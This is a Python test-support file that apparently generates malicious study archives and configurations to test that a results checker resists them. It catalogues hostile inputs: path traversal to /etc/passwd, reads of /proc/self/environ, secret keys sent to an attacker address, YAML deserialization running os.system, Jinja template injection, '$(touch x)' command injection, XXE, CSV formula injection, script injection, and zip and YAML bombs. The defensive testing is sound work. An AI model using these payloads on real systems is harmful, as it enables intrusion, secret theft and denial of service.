"""Archives of a study made to harm who checks them: each attack at each place that it fits."""

import io
import json
import shutil
import struct
import tarfile
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any, NamedTuple
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import polars as pl

from tests.support.forgery import forge
from userturn.workflow.job_record import read_record, write_record


class Host(NamedTuple):
    """What an attack aims at.

    Attributes:
        canary: a file in the home folder of who checks.
        address: a server that counts who connects.
    """

    canary: Path
    address: str


Edit = Callable[[Path, Host], Any]
DATASET, TURNS = "word-problems", "cells/tiny/word-problems/t0/none/user_turns.parquet"


def change_record(study: Path, edit: Callable[[dict[str, Any]], Any]) -> None:
    """Edit a study's record, with its hash in all others."""
    path = study / "results" / "study.json"
    content = json.loads(path.read_text())
    edit(content)
    path.write_text(json.dumps(content))
    forge(study / "results", "study.json", everywhere=True)


def of_config(edit: Callable[[dict[str, Any], Host], Any]) -> Edit:
    """Return an attack by the configuration, whose judges the record knows."""

    def changed(content: dict[str, Any], host: Host) -> None:
        edit(content["config"], host)
        for name in content["config"]["judges"]:
            content["contents"]["judges"].setdefault(name, {})

    return lambda study, host: change_record(study, lambda content: changed(content, host))


# --- settings that name a file -----------------------------------------------------------------
NAMED = {
    "instruction": lambda c, path: c["datasets"][DATASET].update(instruction=path),
    "file": lambda c, path: c["datasets"][DATASET].update(file=path),
    "chat template": lambda c, path: c["models"]["tiny"].update(chat_template=path),
    "system": lambda c, path: c["models"]["tiny"].update(system=path),
    "source": lambda c, path: c["models"]["tiny"].update(source=path),
    "rubric": lambda c, path: c["judges"]["heuristic"].update(rubric=path),
    "prompt": lambda c, path: c["judges"]["heuristic"].update(prompt=path),
}
PLACES: dict[str, Callable[[Host], str]] = {
    "the canary": lambda host: str(host.canary),
    "the canary by ..": lambda host: "../" * 12 + str(host.canary).lstrip("/"),
    "the home folder": lambda host: f"~/{host.canary.name}",
    "zeros": lambda host: "/dev/zero",
    "the environment": lambda host: "/proc/self/environ",
    "an address": lambda host: f"{host.address}/x",
}


def naming(key: str, place: str) -> Edit:
    return of_config(lambda config, host: NAMED[key](config, PLACES[place](host)))


# --- settings that ask, load or never end ------------------------------------------------------
def judge_of_the_author(config: dict[str, Any], host: Host) -> None:
    judge = {"kind": "endpoint", "base_url": f"{host.address}/v1", "model": "m"}
    config["judges"]["friendly"] = judge | {"key_variable": "AWS_SECRET_ACCESS_KEY"}
    config["run"]["judges"] = ["heuristic", "friendly"]


def served_judge(config: dict[str, Any], host: Host) -> None:
    vllm = {"trust_remote_code": True, "tool_parser_plugin": "data/evil.py"}
    judge = {"kind": "endpoint", "model": "org/m", "serve": True, "gpus": 0, "vllm": vllm}
    config["judges"]["evil"] = judge
    config["run"]["judges"] = ["heuristic", "evil"]


def grader_of_the_author(config: dict[str, Any], host: Host) -> None:
    judge_of_the_author(config, host)
    config["datasets"][DATASET].update(verifier="rubric", grader="friendly")


SETTINGS: dict[str, Callable[[dict[str, Any], Host], Any]] = {
    "a judge at an address": judge_of_the_author,
    "a served judge's plugin": served_judge,
    "a grader at an address": grader_of_the_author,
    "an engine's plugin": lambda c, _: c.update(
        vllm={"structured_outputs_config": {"reasoning_parser_plugin": "data/evil.py"}}
    ),
    "a model at an address": lambda c, host: c["models"]["tiny"].update(
        endpoint=f"{host.address}/v1", key_variable="AWS_SECRET_ACCESS_KEY"
    ),
    "code of a model": lambda c, _: c["models"]["tiny"].update(trust_remote_code=True),
    "a recipe": lambda c, _: c["models"].update(more={"base": "tiny", "recipe": "../../evil"}),
    "a dataset of the hub": lambda c, _: c["datasets"].update(
        {DATASET: {"hub": "org/evil", "fields": {"prompt": "q"}, "file": "x.parquet"}}
    ),
    "200,000 temperatures": lambda c, _: c["run"].update(
        temperatures=[n / 100_000 for n in range(200_000)]
    ),
    "an endless number of items": lambda c, _: c["datasets"][DATASET].update(limit=10**18),
    "as many resamples": lambda c, _: c["statistics"].update(resamples=10**12),
    "as many samples": lambda c, _: c.update(n_samples=10**9),
    "names that are paths": lambda c, _: c["run"].update(models=["../../tiny"]),
    "names that are commands": lambda c, _: c["run"].update(models=["$(touch x)"]),
    "names that colour a terminal": lambda c, _: c["run"].update(models=["\x1b[2J\u202e"]),
    "nothing where names are": lambda c, _: c["run"].update(models=None),
    "a number where a mapping is": lambda c, _: c.update(models=3),
    "no number": lambda c, _: c.update(seed=float("nan")),
    "an unknown operator": lambda c, _: c["perturbations"].update(none={"kind": "exec"}),
    "an unknown verifier": lambda c, _: c["datasets"][DATASET].update(verifier="os.system"),
    "fields that are attributes": lambda c, _: c["datasets"][DATASET].update(
        fields={"prompt": "{0.__class__}"}
    ),
}


# --- the record beside the configuration -------------------------------------------------------
def bombs_of_yaml() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    names = [f"a{n}" for n in range(10)]
    lines += [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in pairwise(names)]
    return "\n".join(lines)


def of_text(text: str) -> Edit:
    """Return an attack by the rubric that a record has."""
    return lambda study, _: change_record(
        study, lambda content: content["contents"]["texts"].update({"data/rubric_2.yaml": text})
    )


def of_labels(study: Path, host: Host) -> None:
    files = {f"../../../../{host.canary}": "0" * 64}
    change_record(study, lambda content: content["contents"]["annotations"].update(first=files))


def of_recipes(study: Path, _: Host) -> None:
    change_record(study, lambda content: content["contents"].update(recipes=["x"]))


def without_contents(study: Path, _: Host) -> None:
    change_record(study, lambda content: content.pop("contents"))


RECORD: dict[str, Edit] = {
    "a program in YAML": of_text("!!python/object/apply:os.system ['touch x']"),
    "an unknown tag": of_text("labels: !evil x"),
    "a bomb of YAML": of_text(bombs_of_yaml()),
    "a rubric that is a number": of_text("3"),
    "a program in Jinja": of_text("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "labels elsewhere": of_labels,
    "recipes that are none": of_recipes,
    "no contents": without_contents,
}


# --- files of the study ------------------------------------------------------------------------
def edited(path: str, text: Callable[[str, Host], str]) -> Edit:
    """Return an attack by the text of an artifact, with its hash in all records."""

    def attack(study: Path, host: Host) -> None:
        place = min((study / "results").glob(path))
        place.write_text(text(place.read_text("utf-8"), host), "utf-8")
        forge(study / "results", str(place.relative_to(study / "results")), everywhere=True)

    return attack


def chart_with(**more: Any) -> Edit:
    def text(chart: str, host: Host) -> str:
        filled = json.dumps(more).replace("ADDRESS", host.address)
        return json.dumps(
            json.loads(chart) | json.loads(filled.replace("CANARY", str(host.canary)))
        )

    return edited("figures/grid_overview.vl.json", text)


def of_record(edit: Callable[[dict[str, Any], Host], Any]) -> Edit:
    """Return an attack by the record of the job that made the tables of rates."""

    def attack(study: Path, host: Host) -> None:
        place = study / "results/provenance/analyse.json"
        record: Any = read_record(place)
        edit(record, host)
        write_record(place, record)

    return attack


def table(path: str, make: Callable[[pl.DataFrame], pl.DataFrame]) -> Edit:
    def attack(study: Path, _: Host) -> None:
        place = study / "results" / path
        metadata = pl.read_parquet_metadata(place)
        kept = {key: metadata[key] for key in ("identity", "schema_version") if key in metadata}
        make(pl.read_parquet(place)).write_parquet(place, metadata=kept)
        forge(study / "results", path, everywhere=True)

    return attack


def with_text(text: str) -> Callable[[pl.DataFrame], pl.DataFrame]:
    return lambda rows: rows.with_columns(text=pl.lit(text))


def in_journal(line: bytes) -> Edit:
    def attack(study: Path, _: Host) -> None:
        with min((study / "results").glob("journal/tiny/**/*.jsonl")).open("ab") as journal:
            journal.write(line)

    return attack


def left_out(path: str) -> Edit:
    listed = {"path": path, "n_bytes": 1, "sha256": "0", "reason": "private"}
    return lambda study, _: (study / "left_out.json").write_text(json.dumps({"files": [listed]}))


def without(path: str) -> Edit:
    def attack(study: Path, _: Host) -> None:
        place = study / path
        shutil.rmtree(place) if place.is_dir() else place.unlink()

    return attack


def aliases(study: Path, host: Host) -> None:
    path = study / "results/journal/aliases.json"
    content = json.loads(path.read_text())
    content["places"]["models"]["tiny"] = f"../../../../../..{host.canary.parent}"
    path.write_text(json.dumps(content))


DEEP = "[" * 200_000
FILES: dict[str, Edit] = {
    "a figure's data at an address": chart_with(data={"url": "ADDRESS/x.json"}),
    "a figure's data on the disk": chart_with(data={"url": "file://CANARY"}),
    "a figure's picture": chart_with(
        data={"values": [{"u": "ADDRESS/x.png"}]}, mark="image", encoding={"url": {"field": "u"}}
    ),
    "a figure's link": chart_with(usermeta={"embedOptions": {"loader": {"baseURL": "ADDRESS"}}}),
    "a figure of a geometry": chart_with(
        projection={"type": "mercator"}, data={"url": "ADDRESS/x", "format": {"type": "topojson"}}
    ),
    "a figure without end": chart_with(
        data={"sequence": {"start": 0, "stop": 10**12}}, mark="point", encoding={}
    ),
    "a script in the report": edited(
        "report/index.html", lambda page, host: page + f"<script src='{host.address}'></script>"
    ),
    "an entity in a picture": edited(
        "figures/grid_overview.svg",
        lambda svg, host: f"<!DOCTYPE s [<!ENTITY x SYSTEM 'file://{host.canary}'>]>{svg}&x;",
    ),
    "a formula in a cell": edited("tables/accuracy.csv", lambda text, _: f"{text}=cmd|'/c x'!A0\n"),
    "a deep description": edited("models/tiny.json", lambda _, __: DEEP),
    "a deep marker": edited("sweeps/tiny/*.json", lambda _, __: DEEP),
    "a description of numbers": edited("models/tiny.json", lambda _, __: "1" * 5000),
    "a description that is elsewhere": edited(
        "models/tiny.json",
        lambda text, host: json.dumps(json.loads(text) | {"source": str(host.canary.parent)}),
    ),
    "a pin of nothing": edited("revisions/tiny.json", lambda _, __: "null"),
    "a record of the canary": of_record(
        lambda record, host: record["inputs"].update({str(host.canary): "0"})
    ),
    "a record of the canary by ..": of_record(
        lambda record, host: record["outputs"].update({f"results/../../..{host.canary}": "0"})
    ),
    "a record of another program": of_record(lambda record, _: record.update(rule="os.system")),
    "a record of other wildcards": of_record(
        lambda record, _: record.update(wildcards={"model": "../../../x", "__class__": "x"})
    ),
    "a record of no output": of_record(lambda record, _: record.update(outputs={})),
    "a record of a package": of_record(lambda record, _: record["made"].update(versions={"os": 1})),
    "times that are none": of_record(lambda record, _: record["made"].update(began=[], ended={})),
    "a turn of a gigabyte packed": table(TURNS, with_text("x" * 20_000_000)),
    "a turn of markup": table(TURNS, with_text("</script><script>alert(1)</script>")),
    "a turn of brackets": table(TURNS, with_text("(" * 100_000)),
    "a table of no rows": table(TURNS, lambda rows: rows.head(0)),
    "a table of no columns": table(TURNS, lambda rows: rows.select("item")),
    "a plan of another order": table(f"datasets/{DATASET}.parquet", lambda rows: rows.reverse()),
    "answers without end": table(
        "answers/tiny/word-problems.parquet", lambda a: a.with_columns(answer=pl.lit("9" * 10**6))
    ),
    "a journal of one deep line": in_journal(DEEP.encode() + b"\n"),
    "a journal of zeros": in_journal(bytes(10_000_000)),
    "aliases that lead out": aliases,
    "a list that leads out": left_out("../../../../etc/passwd"),
    "a list of a mapping": lambda study, _: (study / "left_out.json").write_text('{"files": 3}'),
    "no data": without("data"),
    "no provenance": without("results/provenance"),
    "no journal": without("results/journal"),
    "no record of the study": without("results/provenance/record_study.json"),
    "folders where files are": lambda study, _: [
        (study / "results/tables/rates.csv").unlink(),
        (study / "results/tables/rates.csv").mkdir(),
    ],
    "names that colour a terminal in a file": lambda study, _: (
        study / "results/tables/\x1b[2J\u202ex.csv"
    ).write_text("x"),
    "a name of 250 letters": lambda study, _: (
        study / "results/tables" / ("x" * 245 + ".json")
    ).write_text("{}"),
    "9,000 stray files": lambda study, _: [
        (study / f"results/tables/{n}.json").write_text("{}") for n in range(9000)
    ],
}

# --- the archive itself ------------------------------------------------------------------------
Pack = Callable[[Path, Path], Any]


def zipped(study: Path, path: Path, *more: str | ZipInfo, text: bytes = b"x") -> None:
    """Pack a study and further members."""
    with ZipFile(path, "w") as made:
        for place in sorted(study.rglob("*")):
            if place.is_file():
                made.write(place, place.relative_to(study))
        for member in more:
            made.writestr(member, text)


def with_member(name: str) -> Pack:
    return lambda study, path: zipped(study, path, name)


def with_kind(kind: bytes, target: str = "") -> Pack:
    """Return a way to pack a study with a link or a device in a tar."""

    def pack(study: Path, path: Path) -> None:
        with tarfile.open(path, "w:gz") as made:
            made.add(study, arcname=".")
            member = tarfile.TarInfo("results/tables/more.csv")
            member.type, member.linkname = kind, target
            made.addfile(member)

    return pack


def truncated(study: Path, path: Path) -> None:
    zipped(study, path)
    path.write_bytes(path.read_bytes()[:-5000])


def truncated_tar(study: Path, path: Path) -> None:
    with tarfile.open(path, "w:gz") as made:
        made.add(study, arcname=".")
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def bomb(study: Path, path: Path) -> None:
    """A small archive of many bytes."""
    with ZipFile(path, "w", ZIP_DEFLATED) as made, made.open("results/study.json", "w") as member:
        for _ in range(1100):
            member.write(bytes(1 << 20))


def many(study: Path, path: Path) -> None:
    """More members than a study has: the directory of a zip alone, 46 bytes for each."""
    n = 500_001
    names = (f"results/{k}".encode() for k in range(n))
    entry = struct.Struct("<4s6H3I5H2I")
    listed = b"".join(
        entry.pack(b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(x), 0, 0, 0, 0, 0, 0) + x
        for x in names
    )
    end = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, n, n, len(listed), 0)
    where = struct.pack("<4sIQI", b"PK\6\7", 0, len(listed), 1)
    last = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path.write_bytes(listed + end + where + last)


def encrypted(study: Path, path: Path) -> None:
    zipped(study, path)
    content = bytearray(path.read_bytes())
    at = content.index(b"PK\1\2")
    content[at + 8] |= 1
    content[6] |= 1
    path.write_bytes(content)


def unknown_packing(study: Path, path: Path) -> None:
    zipped(study, path)
    content = bytearray(path.read_bytes())
    content[8] = content[content.index(b"PK\1\2") + 10] = 77
    path.write_bytes(content)


def lying_sizes(study: Path, path: Path) -> None:
    zipped(study, path)
    content = bytearray(path.read_bytes())
    at = content.index(b"PK\1\2")
    content[at + 24 : at + 28] = struct.pack("<I", 3)
    path.write_bytes(content)


def two_studies(study: Path, path: Path) -> None:
    with ZipFile(path, "w") as made:
        for name in ("a", "b"):
            made.writestr(f"{name}/results/study.json", "{}")


def deep_folders(study: Path, path: Path) -> None:
    zipped(study, path, "/".join(["results", *["d"] * 1500, "x"]))


def long_header(study: Path, path: Path) -> None:
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as made:
        made.add(study, arcname=".")
        member = tarfile.TarInfo("results/x")
        member.pax_headers = {"comment": "x" * 50_000_000}
        made.addfile(member, io.BytesIO())


def text_alone(text: bytes) -> Pack:
    return lambda study, path: path.write_bytes(text)


def study_of(text: str) -> Pack:
    def pack(study: Path, path: Path) -> None:
        with ZipFile(path, "w") as made:
            made.writestr("results/study.json", text)

    return pack


ARCHIVES: dict[str, Pack] = {
    "a member by ..": with_member("results/../../evil.txt"),
    "a member of the root": with_member("/evil.txt"),
    "a member of Windows": with_member("..\\..\\evil.txt"),
    "a member of a drive": with_member("C:/evil.txt"),
    "a member twice": with_member("results/study.json"),
    "a twin in capitals": with_member("results/STUDY.json"),
    "a symbolic link": with_kind(tarfile.SYMTYPE, "/etc/passwd"),
    "a hard link": with_kind(tarfile.LNKTYPE, "/etc/passwd"),
    "a link to the folder": with_kind(tarfile.SYMTYPE, "../../../"),
    "a device": with_kind(tarfile.CHRTYPE),
    "a pipe": with_kind(tarfile.FIFOTYPE),
    "an interrupted download": truncated,
    "an interrupted unpacking": truncated_tar,
    "many bytes": bomb,
    "many members": many,
    "a password": encrypted,
    "an unknown packing": unknown_packing,
    "lying sizes": lying_sizes,
    "two studies": two_studies,
    "deep folders": deep_folders,
    "a long header": long_header,
    "no archive": text_alone(b"x" * 100),
    "nothing": text_alone(b""),
    "a record of nothing": study_of(""),
    "a record of a list": study_of("[]"),
    "a deep record": study_of(DEEP),
    "a record of a number": study_of('{"config": {"models": {"a": 1}}}'),
}


def every_edit() -> Iterator[tuple[str, Edit]]:
    """Yield the attacks by what is in a study, by name."""
    for key in NAMED:
        for place in PLACES:
            yield f"{key} is {place}", naming(key, place)
    for name, edit in SETTINGS.items():
        yield name, of_config(edit)
    yield from RECORD.items()
    yield from FILES.items()
